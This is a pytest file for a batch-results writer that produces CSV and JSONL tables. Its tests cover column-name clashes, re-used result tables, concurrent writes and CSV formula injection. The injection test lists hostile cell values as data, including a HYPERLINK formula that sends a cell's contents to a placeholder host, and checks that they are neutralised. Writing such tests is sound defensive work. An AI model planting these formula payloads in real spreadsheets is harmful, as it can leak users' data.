"""Results as tables: whatever a row's own columns are called and hold, they are written, and do no harm."""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path
from typing import Any, Dict, Iterator, List, Mapping, Sequence

import pytest

from kie_sync.batch.results import RowResult
from kie_sync.batch.tables import CSV_NAME, JSONL_NAME, ResultFiles, flat


def result(columns: Mapping[str, Any], **about: Any) -> RowResult:
    return RowResult(1, 2, "abc:1", "google/nano-banana", "success", columns=columns, **about)


def written(tmp_path: Path, results: Sequence[RowResult]) -> List[Dict[str, str]]:
    ResultFiles(tmp_path).finish(results)
    with (tmp_path / CSV_NAME).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_a_column_of_the_rows_own_may_begin_like_one_of_ours(tmp_path: Path) -> None:
    """It is no amount of ours, whatever it holds."""
    columns = {"credits_note": "ask Ann", "credits_max": 5, "credits_paid": Decimal("2.50")}

    (row,) = written(tmp_path, [result(columns, price=Decimal("4.00"))])

    assert [row[name] for name in (*columns, "credits_estimated")] == ["ask Ann", "5", "2.5", "4"]


def test_results_that_are_rows_again_lose_no_column() -> None:
    """As where `results.csv` of a batch with a column `state` is the table of the next one."""
    found = flat(result({"state": "mine", "row.state": "the first one's", "prompt": "a"}))

    own = {name: value for name, value in found.items() if name.endswith("state")}
    assert own == {"state": "success", "row.row.state": "mine", "row.state": "the first one's"}


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ('=HYPERLINK("http://a/?"&A1)', '\'=HYPERLINK("http://a/?"&A1)'),
        ("+1 cat", "'+1 cat"),
        ("- a cat", "'- a cat"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("-1", "-1"),
        ("+0.5", "+0.5"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_a_spreadsheet_takes_no_cell_for_a_formula(given: str, shown: str, tmp_path: Path) -> None:
    """Neither a prompt, nor the name of a column, nor what the platform says; `results.jsonl` has them as they are."""
    (row,) = written(tmp_path, [result({"prompt": given, "=A1": "x"}, error=given)])

    line = json.loads((tmp_path / JSONL_NAME).read_text("utf-8"))
    assert (row["prompt"], row["error"], row["'=A1"]) == (shown, shown, "x")
    assert (line["prompt"], line["error"], line["=A1"]) == (given, given, "x")


def test_two_processes_that_end_at_once_leave_whole_files(tmp_path: Path) -> None:
    """One of them finishes while the other writes; of each file the last one's stands, whole."""

    class Meanwhile(List[RowResult]):
        def __iter__(self) -> Iterator[RowResult]:
            ResultFiles(tmp_path).finish([result({"prompt": "the other"})] * 50)
            yield from super().__iter__()

    (row,) = written(tmp_path, Meanwhile([result({"prompt": "mine"})]))

    assert row["prompt"] == "mine"
    assert len((tmp_path / JSONL_NAME).read_text("utf-8").splitlines()) == 50 and not list(tmp_path.glob(".*"))
